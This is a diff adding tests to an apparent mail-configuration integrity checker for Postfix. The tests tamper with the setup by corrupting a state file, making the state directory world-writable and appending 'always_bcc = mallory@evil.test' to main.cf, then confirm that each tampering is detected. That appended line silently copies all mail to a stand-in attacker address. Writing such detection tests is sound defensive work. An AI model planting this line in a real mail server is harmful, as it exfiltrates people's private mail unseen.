@@ -222,6 +222,33 @@ def test_accept(rig: Rig) -> None:
     assert "mail for root ends at mallory@evil.test: leaves this host" in done.err
 
 
+def test_a_record_that_is_broken_or_not_ours(postfix: Rig) -> None:
+    _start(postfix)
+    postfix.path("/var/lib/rotation/verify.note").write_bytes(b"garbage\xff")
+    done = rotation(postfix, MONDAY, "verify")
+    assert done.status == 1
+    assert "what was remembered of the chain cannot be read" in done.err
+    assert rotation(postfix, MONDAY, "verify", "--accept").status == 0
+    _good(postfix)
+    postfix.path("/var/lib/rotation").chmod(0o777)
+    done = rotation(postfix, MONDAY, "verify")
+    assert done.status == 3
+    assert "not ours alone" in done.err
+    postfix.path("/var/lib/rotation").chmod(0o700)
+
+
+def test_copies_of_all_mail_are_seen(postfix: Rig) -> None:
+    _start(postfix)
+    kept = Kept(postfix, "/etc/postfix/main.cf")
+    with postfix.path("/etc/postfix/main.cf").open("a") as file:
+        file.write("always_bcc = mallory@evil.test\n")
+    done = rotation(postfix, MONDAY, "verify")
+    assert done.status == 1
+    assert "mail for root goes to mallory@evil.test now (always_bcc)" in done.err
+    kept.put_back()
+    _good(postfix)
+
+
 def test_nothing_is_remembered_while_something_is_wrong(rig: Rig) -> None:
     _start(rig)
     rig.run(["rm", "-rf", "/var/lib/rotation"])
